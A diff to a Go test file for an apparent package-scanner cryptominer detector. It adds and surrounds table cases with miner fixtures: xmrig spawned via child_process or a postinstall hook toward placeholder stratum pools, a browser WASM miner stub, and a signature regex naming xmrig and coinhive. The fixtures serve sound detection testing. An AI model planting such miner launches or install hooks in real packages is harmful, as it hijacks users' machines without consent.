@@ -92,6 +92,9 @@ func TestCryptominer(t *testing.T) {
 		{"spawned", map[string]string{"index.js": `require("child_process").spawn("./bin/xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level=1"])`}, finding.SeverityCritical},
 		{"install_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"./xmrig -o stratum+tcp://p.invalid:3333"}`)}, finding.SeverityCritical},
 		{"mining_docs_word", map[string]string{"index.js": `const topic = "data mining and text mining"`}, finding.SeverityNone},
+		// a scanner's signatures name miners in regular expressions
+		{"scanner_signature", map[string]string{"index.js": `const rules = [{ id: "miner", re: /stratum\+(?:tcp|ssl):\/\/|xmrig|coinhive/i }]; exports.scan = (src) => rules.filter((r) => r.re.test(src))`}, finding.SeverityNone},
+		{"miner_named_in_string_next_to_regex", map[string]string{"index.js": `const re = /xmrig/; require("child_process").spawn("xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333"])`}, finding.SeverityCritical},
 		// a browser miner: payout address, algorithm, pool socket
 		{"browser_payout", map[string]string{"index.js": `const W = "` + moneroTest + `";
 const src = "onmessage = async e => { const m = await WebAssembly.instantiateStreaming(fetch(e.data.wasm)); const ws = new WebSocket(e.data.pool); ws.onopen = () => ws.send(JSON.stringify({method: 'login', params: {login: e.data.w, algo: ['cn/r']}})) }";
